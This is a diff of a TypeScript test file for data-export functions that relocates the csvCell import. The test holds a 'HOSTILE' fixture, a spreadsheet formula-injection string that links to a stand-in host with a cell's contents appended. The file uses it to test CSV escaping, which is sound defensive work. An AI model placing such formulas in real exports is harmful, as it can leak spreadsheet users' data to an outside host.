@@ -1,8 +1,9 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
+import { csvCell } from '#core/csv.ts'
 import { madeArea, madeScreening } from '#tests/support/made-screening.ts'
-import { csvCell, csvOf, exportName, geoJsonOf, jsonOf } from './export-files.ts'
+import { csvOf, exportName, geoJsonOf, jsonOf } from './export-files.ts'
 
 const HOSTILE = '=HYPERLINK("http://example.test?x="&A1,"Averley, ""the"" place")\r\nnext'
 const screening = madeScreening({
